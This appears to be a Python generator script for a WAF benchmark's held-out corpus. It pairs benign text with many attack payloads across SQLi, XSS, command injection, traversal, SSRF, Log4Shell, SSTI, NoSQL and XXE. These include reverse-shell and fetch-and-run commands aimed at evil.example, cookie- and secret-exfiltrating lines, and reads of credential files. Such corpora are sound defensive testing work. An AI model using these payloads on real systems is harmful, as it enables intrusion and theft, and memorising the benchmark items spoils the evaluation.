"""Build corpus_heldout_v2.jsonl: a held-out corpus written from scratch (deterministic).

Written after the first held-out split had been looked at (that one was merged into
corpus_tune_v2.jsonl), and before any tuning against it. Its payloads are new, in other
authors' styles (OWASP cheat-sheet and PayloadsAllTheThings-like variants, evasions and
encodings), and they travel in places the first corpus used less: nested JSON and GraphQL
variables, XML/SOAP bodies, multipart file names, custom headers, Base64-JSON cookies, path
segments, `+`-encoded forms, mixed-case and double percent-encoding. The benign side is
realistic user text: apostrophes and quotes, code snippets, shell commands and SQL inside
prose and documentation, markdown, structured data.

    python benchmarks/waf_eval/gen_heldout_v2.py
"""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent

ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "' OR 'x'='x",
        "admin' #",
        "') OR ('a'='a",
        "1' ORDER BY 3--+",
        "1' UNION ALL SELECT NULL,NULL,NULL-- -",
        "' UNION SELECT username, password FROM users--",
        "1 AND 1=2 UNION SELECT table_name,2 FROM information_schema.tables",
        "1; SELECT pg_sleep(10)--",
        "1' AND SLEEP(5) AND '1'='1",
        "' AND 1=CONVERT(int,(SELECT @@version))--",
        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)-- -",
        "' || (SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END FROM dual) || '",
        "1 OR 1=1 LIMIT 1",
        "-1' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns "
        "WHERE table_name='users'-- -",
        "'; EXEC xp_cmdshell('dir');--",
        "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        '" OR 1=1 -- -',
        "1)) OR ((1=1",
        "'/**/OR/**/1=1/**/--",
        "1'\tAND\t'a'='a",
        "' UNION SELECT LOAD_FILE('/etc/passwd')-- -",
        "1 AND EXTRACTVALUE(7742,CONCAT(0x5c,(SELECT user())))",
        "admin')--",
        "' AnD 1=1 uNiOn SeLeCt 1,2,3#",
        "1;DECLARE @q VARCHAR(99);SET @q='\\\\attacker.example\\x';EXEC master.dbo.xp_dirtree @q--",
        "' OR username LIKE '%admin%",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "' OR SLEEP(5)='",
        "1 WAITFOR DELAY '0:0:10'--",
        "1' and '1'='1' /*",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "1 UNION/*&test=1*/SELECT/*&pwn=2*/1,2",
    ],
    "xss": [
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(document.domain)>",
        '"><script>alert(String.fromCharCode(88,83,83))</script>',
        "<body onload=alert('XSS')>",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<a href="jav&#x09;ascript:alert(1)">click</a>',
        "<details open ontoggle=alert(1)>",
        "'-alert(1)-'",
        '";alert(1);//',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        '<video><source onerror="alert(1)">',
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/"
        "onmouseover=1/+/[*/[]/+alert(1)//'>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        '<div style="background:url(javascript:alert(1))">',
        "<marquee onstart=alert(1)>",
        '<form action="javascript:alert(1)"><input type=submit>',
        "<isindex type=image src=1 onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<img src=1 onerror=fetch('//evil.example/'+document.cookie)>",
        '" onmouseover="alert(1)',
        '<base href="javascript:alert(1)//">',
        '<embed src="javascript:alert(1)">',
        "<x contenteditable onblur=alert(1)>lose focus!",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<svg><script>alert&#40;1&#41;</script>",
        "</textarea><script>alert(1)</script>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    ],
    "cmdi": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "$(id)",
        "`uname -a`",
        "127.0.0.1; ping -c 3 attacker.example",
        "|| curl http://evil.example/x.sh | sh",
        ";nc -e /bin/sh 10.0.0.1 4444",
        "x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        ";{cat,/etc/passwd}",
        ";cat${IFS}/etc/passwd",
        "a\nid",
        "| powershell -enc SQBFAFgA",
        "& net user hacker P@ss /add",
        "127.0.0.1 | type C:\\Windows\\win.ini",
        ";wget http://evil.example/bd -O /tmp/bd; chmod +x /tmp/bd; /tmp/bd",
        "$(sleep 10)",
        "; python -c 'import os;os.system(\"id\")'",
        "| perl -e 'print \"vuln\"'",
        "; echo dGVzdA== | base64 -d | sh",
        ";/usr/bin/id",
        "test && ls -la /",
        "|cmd /c dir",
        "; w'h'o'am'i",
        ";c\\at /e\\tc/pa\\sswd",
    ],
    "path_traversal": [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "/var/www/html/../../../etc/shadow",
        "../../../../../../boot.ini",
        "..;/..;/WEB-INF/web.xml",
        "/..%2f..%2f..%2fproc/self/environ",
        "images/../../../../etc/hosts",
        "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts",
        "%u002e%u002e%u2215etc%u2215passwd",
        "file/../../../../root/.ssh/id_rsa",
        "static/..%5c..%5c..%5capp.config",
        "..././..././..././etc/passwd",
        "%2E%2E/%2E%2E/%2E%2E/etc/group",
    ],
    "lfi_rfi": [
        "php://filter/convert.base64-encode/resource=index.php",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
        "expect://id",
        "/proc/self/cmdline",
        "file:///etc/passwd",
        "http://evil.example/shell.txt?",
        "https://203.0.113.66/x.php",
        "zip://uploads/avatar.jpg#shell.php",
        "phar://uploads/x.phar/test",
        "C:\\boot.ini",
        "/var/log/apache2/access.log",
        "\\\\attacker.example\\share\\evil.php",
        "ftp://evil.example/payload.txt",
        "/home/ubuntu/.aws/credentials",
        "http://evil.example/c99.php",
        "php://filter/read=string.rot13/resource=config.php",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:8080/admin",
        "http://localhost:6379/",
        "http://[::1]/",
        "http://0x7f000001/",
        "http://2130706433/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://localhost:11211/stats",
        "http://metadata.google.internal/computeMetadata/v1/instance/",
        "http://169.254.170.2/v2/credentials",
        "http://10.0.0.5/internal/api",
        "http://192.168.1.1/cgi-bin/luci",
        "http://127.1/",
        "http://spoofed.burpcollaborator.net",
        "file:///c:/windows/win.ini",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "http://172.16.0.10:2375/containers/json",
        "http://instance-data/latest/meta-data/",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://evil.example:1099/Exploit}",
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
        "${${upper:j}ndi:ldaps://evil.example/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example}",
        "${env:AWS_ACCESS_KEY_ID}",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{% import os %}{{ os.system('id') }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "{php}echo `id`;{/php}",
        "*{T(java.lang.Runtime).getRuntime().exec('calc')}",
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
        "{{ ''|attr('__class__') }}",
        '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
        "{{ range.constructor(\"return global.process.mainModule.require('child_process')"
        ".execSync('id')\")() }}",
    ],
    "nosql": [
        '{"username": {"$ne": null}, "password": {"$ne": null}}',
        '{"user": "admin", "pass": {"$gt": ""}}',
        "username[$ne]=x&password[$ne]=x",
        '{"$where": "sleep(5000)"}',
        "' || '1'=='1",
        '{"username": {"$regex": "^adm"}, "password": {"$exists": true}}',
        "user[$regex]=.*&pass[$gt]=",
        "'; return true; var x='",
        '{"$or": [{"a": 1}, {"b": {"$ne": 2}}]}',
        "this.password.match(/.*/)//",
        '{"login": {"$in": ["admin", "root"]}, "pw": {"$nin": [""]}}',
        "'; db.dropDatabase(); '",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<foo>&xxe;</foo>",
        '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>',
        '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data>1</data>',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
        'href="file:///etc/passwd"/></foo>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        "<lolz>&lol2;</lolz>",
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [<!ENTITY x SYSTEM '
        '"php://filter/convert.base64-encode/resource=index.php">]><svg>&x;</svg>',
        '<!DOCTYPE x PUBLIC "-//A//B" "http://evil.example/a.dtd"><x/>',
        '<soap:Envelope><soap:Body><!DOCTYPE a [<!ENTITY b SYSTEM "expect://id">]><a>&b;</a>'
        "</soap:Body></soap:Envelope>",
    ],
}

BENIGN: dict[str, list[str]] = {
    "benign_text": [
        "Don't forget: the meeting's at 3 o'clock, and we'll select the venue then.",
        "I'd like to order 2 large pizzas -- one with 'extra cheese' & one plain.",
        "She said \"it's fine\" but I'm not so sure; let's wait and see.",
        "Drop by anytime! We're open from 9 to 5 (Mon-Fri).",
        "Union members voted 68% in favour; the select committee will report on Monday.",
        "Rock 'n' roll isn't dead - it's just resting.",
        "My password reset email didn't arrive; I checked spam & promotions.",
        "Can you update the delivery address to 12 O'Connell St, Dublin?",
        "The kids love 'Tom & Jerry' and 'Where's Waldo?'",
        "5 stars!!! Would buy again :) <3",
        "Q: is 1=1 always true? A: in Boolean algebra, yes.",
        "He typed rm by accident, but luckily nothing was deleted.",
        "Use the 'or' operator sparingly; prefer clear if/else blocks.",
        "I sleep (8 hours) and exercise (1 hour) every day.",
        "Re: your order #1234 - shipped via UPS; tracking: 1Z999AA10123456784",
        "Script for the school play: Act 1, Scene 2 - enter Hamlet, stage left.",
        "Prices from $5 to $10; buy 2 & get 1 free!",
        "We're at 50% capacity; please RSVP by Friday (sooner's better).",
        "\u201cSmart quotes\u201d and \u2018apostrophes\u2019 shouldn\u2019t break anything.",
        "Alert: the train is delayed by 10 minutes due to signal issues at Paddington.",
        "Find the cat a home - she's 3 years old, spayed, and loves laps.",
        "Why I switched from Windows to Linux (and back again)",
        "The onload event fires after the page finishes loading; see chapter 4.",
        "The ${price} placeholder in the email template isn't being replaced.",
        "Hi team,\nthe deploy failed again. Logs attached.\nThanks, Priya",
        "I love this product & would recommend it to anyone who's into hiking/camping.",
        "Who's on first? What's on second? I don't know's on third.",
        "Order of operations: (2 + 3) * 4 = 20, not 14.",
        "Cat pictures please, and echo my thanks to the admin team!",
        "It's 'and' not '&', according to our style guide; 'or' stays lowercase.",
        "Call me at home or on my mobile -- whichever's easier for you.",
        "Where's the 'delete account' option? I can't find it under Settings > Privacy.",
    ],
    "benign_code": [
        "To list files, run `ls -la` in your terminal, then `cd` into the folder.",
        "In Python: `for i in range(10): print(i)`",
        'Use `git commit -m "fix: handle null user"` and then push.',
        "const total = items.reduce((a, b) => a + b.price, 0);",
        "if (x > 0 && y < 10) { return x * y; }",
        "Markdown: **bold**, _italic_, [link](https://example.com/docs), and `inline code`.",
        "The query `SELECT COUNT(*) FROM orders` takes 3s on our replica - any index tips?",
        "docker run -p 8080:80 nginx:latest",
        "npm install --save-dev eslint prettier",
        'def greet(name):\n    return f"Hello, {name}!"',
        "<p>Hello <b>world</b></p> renders as bold text in the preview.",
        "C:\\Users\\alice\\Documents\\report.docx",
        "The regex ^[a-z0-9_-]{3,16}$ validates usernames.",
        "export PATH=$PATH:/usr/local/go/bin",
        "kubectl get pods -n production | grep api",
        "## Install\n\n1. Clone the repo\n2. Run `make build`\n3. Open http://localhost:3000",
        "SELECT name, email FROM customers WHERE country = 'UK' is what I tried, "
        "but it returns nothing.",
        "for (let i = 0; i < n; i++) { sum += arr[i]; }",
        "git log --oneline | head -5",
        "The error says: TypeError: Cannot read properties of undefined (reading 'map')",
        'public static void main(String[] args) { System.out.println("hi"); }',
        "Try `pip install requests==2.31.0` inside a virtualenv.",
        'fn main() { let v: Vec<i32> = vec![1, 2, 3]; println!("{:?}", v); }',
        "UPDATE: fixed it by adding an index on (user_id, created_at).",
        "> Quote from the docs: 'The order by clause sorts the result set.'",
    ],
    "benign_data": [
        "2024-05-01T12:30:00Z",
        "+1 (555) 010-9999",
        "https://www.example.com/search?q=shoes&size=10",
        "SKU-4491-BLK-XL",
        "lat=51.5074,lng=-0.1278",
        '{"cart":[{"id":42,"qty":2}],"coupon":"SPRING-10"}',
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
        "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "application/vnd.api+json; charset=utf-8",
        "/images/2024/05/summer-sale_banner@2x.png",
        "GB29 NWBK 6016 1331 9268 19",
        "Flat 3/2, 14 Baker's Row, London",
        "sort=-created_at,name",
        "user+tag@example.co.uk",
        "#ff00aa",
        "v2.3.1-rc.1+build.5",
        "100% cotton; machine wash @ 30\u00b0C",
        "a1b2c3d4-e5f6-7890-abcd-ef1234567890",
        "en-GB,en;q=0.8,fr;q=0.5",
        "../assets/logo.svg",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
        "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "12.50 EUR / 13.40 USD",
    ],
}

# Payloads above that turned out to be verbatim in corpus_tune_v2 (classics every author
# writes) are swapped for variants of my own, so that the held-out set shares no payload
# with the tuning set.
VARIANTS: dict[str, str] = {
    "<details open ontoggle=alert(1)>": '<details/open/ontoggle="self[`al`+`ert`](1)">',
    '<embed src="javascript:alert(1)">': "<embed src=javascript:alert`1`>",
    "<isindex type=image src=1 onerror=alert(1)>": "<audio src=x onerror=confirm(1)>",
    "<svg/onload=alert(1)>": "<svg\nonload=prompt(8)>",
    '<video><source onerror="alert(1)">': "<video poster=x onerror=alert(2)></video>",
    "<marquee onstart=alert(1)>": "<MARQUEE loop=1 width=0 onfinish=alert(1)>x</MARQUEE>",
    '<div style="background:url(javascript:alert(1))">': '<p style="x:expression(alert(1))">',
    '<base href="javascript:alert(1)//">': '<link rel=import href="data:text/html,'
    '<script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)"></iframe>': '<iframe srcdoc="<img src=x '
    'onerror=alert(1)>"></iframe>',
    '" onmouseover="alert(1)': "' autofocus onfocus='alert(1)",
    "<input autofocus onfocus=alert(1)>": "<select autofocus onfocus=alert(1)>",
    "' AND 1=CONVERT(int,(SELECT @@version))--": "' AND 1=CAST((SELECT TOP 1 name FROM "
    "sysobjects) AS int)--",
    "1' AND SLEEP(5) AND '1'='1": "1' AnD BeNcHmArK(5000000,MD5(1)) AnD '1'='1",
    "1' ORDER BY 3--+": "1' GROUP BY 1,2,3--+",
    "| powershell -enc SQBFAFgA": '| powershell.exe -nop -w hidden -c "IEX(New-Object '
    "Net.WebClient).DownloadString('http://evil.example/a')\"",
    "; python -c 'import os;os.system(\"id\")'": '; python3 -c \'__import__("os").system("id")\'',
    "; cat /etc/passwd": "; head -n 5 /etc/shadow",
    ";{cat,/etc/passwd}": ";{ls,-la,/root}",
    ";cat${IFS}/etc/passwd": ";ls${IFS}-la${IFS}/var/www",
    "| id": "|/usr/bin/whoami",
    "..././..././..././etc/passwd": "..%2F..%2F..%2F..%2Fvar%2Flog%2Fauth.log",
    "..%252f..%252f..%252fetc%252fpasswd": "%252e%252e%252f%252e%252e%252fetc%252fhosts",
    "..\\..\\..\\windows\\win.ini": "..\\..\\..\\..\\..\\inetpub\\logs\\x.log",
    "../../../../../../boot.ini": "../../../../../../../../usr/local/etc/nginx/nginx.conf",
    "..;/..;/WEB-INF/web.xml": "/app/..;/..;/manager/html",
    "C:\\boot.ini": "C:/Windows/System32/drivers/etc/hosts",
    "php://filter/read=string.rot13/resource=config.php": "php://filter/zlib.deflate/"
    "convert.base64-encode/resource=/etc/passwd",
    "expect://id": "expect://whoami",
    "php://filter/convert.base64-encode/resource=index.php": "pHp://FilTer/"
    "convert.base64-encode/resource=db.php",
    "file:///etc/passwd": "file://localhost/etc/passwd#x",
    "/proc/self/cmdline": "/proc/self/fd/3",
    "http://instance-data/latest/meta-data/": "http://[fd00:ec2::254]/latest/user-data",
    "file:///c:/windows/win.ini": "file:///proc/self/environ",
    "http://0x7f000001/": "http://0x7f.0x0.0x0.0x1:8000/",
    "http://2130706433/": "http://017700000001/",
    "http://127.1/": "http://127.0.1.3/server-status",
    "${T(java.lang.Runtime).getRuntime().exec('id')}": "${T(org.apache.commons.io.IOUtils)"
    ".toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}': '${"freemarker.'
    'template.utility.Execute"?new()("id")}',
    "{{cycler.__init__.__globals__.os.popen('id').read()}}": "{{joiner.__init__.__globals__"
    ".os.popen('id').read()}}",
    "{php}echo `id`;{/php}": '{system("id")}',
    "<%= 7*7 %>": "<%= `ls /` %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}": "{{ ().__class__.__base__.__subclasses__() }}",
    "{% import os %}{{ os.system('id') }}": "{% for x in ().__class__.__base__"
    ".__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__"
    "['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "#{7*7}": "#{7*191}",
    "${7*7}": "${1337*1337}",
    "{{config.items()}}": "{{ config.SECRET_KEY }}",
    "{{7*7}}": "{{ 9*9 }}",
    "{{ ''|attr('__class__') }}": "{{ request|attr('application')|attr('\\x5f\\x5fglobals"
    "\\x5f\\x5f') }}",
    '{"username": {"$ne": null}, "password": {"$ne": null}}': '{"email": {"$ne": ""}, '
    '"password": {"$ne": "x"}}',
    '{"$where": "sleep(5000)"}': '{"$where": "function() { return this.role == \'admin\' }"}',
    "' || '1'=='1": "admin' || 'a'=='a",
    '{"$or": [{"a": 1}, {"b": {"$ne": 2}}]}': '{"$and": [{"user": "admin"}, {"pw": '
    '{"$regex": ".*"}}]}',
    "username[$ne]=x&password[$ne]=x": "email[$exists]=true&password[$ne]=1",
    "'; return true; var x='": "1'; return this.secret.length > 0; var y='",
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<foo>&xxe;</foo>": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
    '"file:///etc/hostname">]><r><n>&x;</n></r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
    'href="file:///etc/passwd"/></foo>': '<doc xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="/etc/group" parse="text"/></doc>',
    "${jndi:ldap://evil.example/a}": "${jndi:ldap://evil.example:1389/o=tomcat}",
    "+1 (555) 010-9999": "+44 20 7946 0958",
}
for _sets in (ATTACKS, BENIGN):
    for _cls, _ps in _sets.items():
        _sets[_cls] = [VARIANTS.get(_p, _p) for _p in _ps]

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
]
PATHS = ["/api/v2/orders", "/graphql", "/support/tickets", "/cms/pages/edit", "/u/settings"]
PARAMS = ["filter", "next", "callback", "lang", "sort", "returnUrl", "term", "doc", "target"]
CUSTOM_HEADERS = ["X-Client-Meta", "X-Correlation-Note", "X-Tenant-Filter", "X-Debug-Info"]


def headers(rng: random.Random) -> list[list[str]]:
    h = [
        ["Host", "app.example.org"],
        ["User-Agent", rng.choice(UAS)],
        ["Accept", rng.choice(["application/json", "*/*", "text/html,*/*;q=0.8"])],
        ["Accept-Language", rng.choice(["en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr"])],
    ]
    if rng.random() < 0.5:
        h.append(["Authorization", f"Bearer {rng.getrandbits(160):040x}"])
    if rng.random() < 0.5:
        h.append(["Cookie", f"sid={rng.getrandbits(96):024x}; _ga=GA1.2.{rng.getrandbits(30)}.17"])
    if rng.random() < 0.3:
        h.append(["X-Requested-With", "XMLHttpRequest"])
    return h


def mixed_case_pct(s: str, rng: random.Random) -> str:
    enc = quote(s, safe="")
    out = []
    i = 0
    while i < len(enc):
        if enc[i] == "%":
            tok = enc[i : i + 3]
            out.append(tok.lower() if rng.random() < 0.5 else tok)
            i += 3
        else:
            out.append(enc[i])
            i += 1
    return "".join(out)


def place(p: str, how: str, rng: random.Random) -> dict:
    h = headers(rng)
    method, path, query, body = "GET", rng.choice(PATHS), "", ""
    param = rng.choice(PARAMS)
    if how == "query":
        query = f"page=1&{param}={quote(p, safe='')}"
    elif how == "query_plus":
        query = f"{param}={quote_plus(p)}&v=2"
    elif how == "query_mixed":
        query = f"{param}={mixed_case_pct(p, rng)}"
    elif how == "query_double":
        query = f"{param}={quote(quote(p, safe=''), safe='')}"
    elif how == "form_plus":
        method = "POST"
        body = f"csrf=8f14e45fceea167a&{param}={quote_plus(p)}&submit=Save"
        h.append(["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif how == "json_nested":
        method = "POST"
        body = json.dumps(
            {"data": {"type": "comment", "attributes": {"lang": "en", param: p}}},
            ensure_ascii=False,
        )
        h.append(["Content-Type", "application/vnd.api+json"])
    elif how == "json_array":
        method = "PUT"
        body = json.dumps({"items": [{"sku": "A-1", "note": p}, {"sku": "B-2", "note": "ok"}]})
        h.append(["Content-Type", "application/json; charset=utf-8"])
    elif how == "graphql":
        method = "POST"
        path = "/graphql"
        body = json.dumps(
            {
                "operationName": "AddNote",
                "query": "mutation AddNote($t: String!) { addNote(text: $t) { id } }",
                "variables": {"t": p},
            }
        )
        h.append(["Content-Type", "application/json"])
    elif how == "xml_body":
        method = "POST"
        body = (
            '<?xml version="1.0" encoding="UTF-8"?><request><user>bob</user>'
            f"<{param}>{escape(p)}</{param}></request>"
        )
        h.append(["Content-Type", "application/xml"])
    elif how == "multipart_file":
        method = "POST"
        b = "----formdata-undici-0" + f"{rng.getrandbits(40):010x}"
        body = (
            f'--{b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nReport\r\n'
            f'--{b}\r\nContent-Disposition: form-data; name="{param}"\r\n'
            f"Content-Type: text/plain\r\n\r\n{p}\r\n--{b}--\r\n"
        )
        h.append(["Content-Type", f"multipart/form-data; boundary={b}"])
    elif how == "header":
        h.append([rng.choice(CUSTOM_HEADERS), p.replace("\r", " ").replace("\n", " ")])
    elif how == "cookie":
        h = [x for x in h if x[0] != "Cookie"]
        h.append(["Cookie", f"sid=9a8b7c6d; last_search={quote(p, safe='')}; lang=en"])
    elif how == "cookie_b64json":
        h = [x for x in h if x[0] != "Cookie"]
        blob = base64.urlsafe_b64encode(json.dumps({"q": p}).encode()).decode().rstrip("=")
        h.append(["Cookie", f"sid=9a8b7c6d; state={blob}"])
    elif how == "path":
        path = "/download/" + quote(p, safe="")
    elif how == "raw_query":
        query = p
    elif how == "raw_body":
        method = "POST"
        body = p
        first = p.lstrip()[:1]
        ctype = {"<": "text/xml", "{": "application/json"}.get(
            first, "application/x-www-form-urlencoded"
        )
        h.append(["Content-Type", ctype])
    else:
        raise ValueError(how)
    return {
        "method": method,
        "path": path,
        "query": query,
        "headers": h,
        "body": body,
        "placement": how,
    }


ATTACK_PLACES = [
    "query",
    "json_nested",
    "header",
    "cookie",
    "query_plus",
    "graphql",
    "multipart_file",
    "query_mixed",
    "form_plus",
    "cookie_b64json",
    "json_array",
    "query_double",
    "xml_body",
]
SPECIAL = {
    "path_traversal": ["query", "path", "cookie", "header", "json_nested", "query_mixed"],
    "xxe": ["raw_body", "multipart_file"],
}
BENIGN_PLACES = [
    "query",
    "json_nested",
    "form_plus",
    "graphql",
    "multipart_file",
    "header",
    "cookie",
    "json_array",
    "query_plus",
    "cookie_b64json",
]


def build() -> list[dict]:
    rng = random.Random("bastion-waf-heldout-v2")
    out: list[dict] = []
    for cls, payloads in ATTACKS.items():
        hows = SPECIAL.get(cls, ATTACK_PLACES)
        for i, p in enumerate(payloads):
            if cls == "nosql":
                if p.lstrip().startswith("{"):
                    variants = ["raw_body", "cookie_b64json"]
                elif "[$" in p:
                    variants = ["raw_query", "raw_body"]
                else:
                    variants = ["json_nested", "query"]
            else:
                variants = [hows[(i * 2 + k * 5) % len(hows)] for k in range(2)]
            for how in variants:
                out.append(_mk(place(p, how, rng), cls, "attack", p))
    for cls, payloads in BENIGN.items():
        for i, p in enumerate(payloads):
            for k in range(3):
                how = BENIGN_PLACES[(i + k * 3) % len(BENIGN_PLACES)]
                out.append(_mk(place(p, how, rng), cls, "benign", p))
    browse_paths = [
        "/",
        "/pricing",
        "/docs/getting-started",
        "/assets/main.3f9a.css",
        "/api/v2/orders/8812",
        "/blog/2024/05/why-we-moved",
        "/u/settings",
    ]
    browse_queries = [
        "",
        "tab=billing",
        "page=3&per_page=50",
        "q=red+shoes&sort=price_asc",
        "utm_campaign=spring&utm_medium=email",
        "from=2024-01-01&to=2024-03-31",
        "ids=12,13,14",
        "redirect=%2Fdashboard",
    ]
    for i in range(45):
        r = place("x", "query", rng)
        r["path"] = rng.choice(browse_paths)
        r["query"] = rng.choice(browse_queries)
        out.append(_mk(r, "benign_browse", "benign", f"browse-{i}"))
    for n, r in enumerate(out):
        r["id"] = f"heldout_v2-{n:04d}"
    return out


def _mk(req: dict, cls: str, label: str, payload: str) -> dict:
    req.update({"class": cls, "label": label, "payload": payload})
    return req


def main() -> None:
    rows = build()
    with open(HERE / "corpus_heldout_v2.jsonl", "w") as fh:
        for r in rows:
            fh.write(json.dumps(r) + "\n")
    n_att = sum(r["label"] == "attack" for r in rows)
    print(f"heldout_v2: {len(rows)} requests ({n_att} attacks, {len(rows) - n_att} benign)")


if __name__ == "__main__":
    main()
